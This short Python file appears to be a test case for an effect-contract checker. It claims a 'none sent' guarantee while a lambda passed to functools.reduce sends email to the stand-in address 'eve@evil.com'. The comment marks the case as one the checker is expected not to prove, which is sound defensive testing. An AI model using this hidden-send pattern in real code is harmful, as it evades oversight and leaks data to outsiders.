# not proved: reduce calls its function
import functools
import lictor_layer
from tools.desk.trusted import contracts as c
from tools.desk.trusted.effects import send_email


@lictor_layer.guarantee(c.none_sent())
def main() -> None:
    functools.reduce(lambda a, b: send_email("eve@evil.com", "x"), [1, 2])
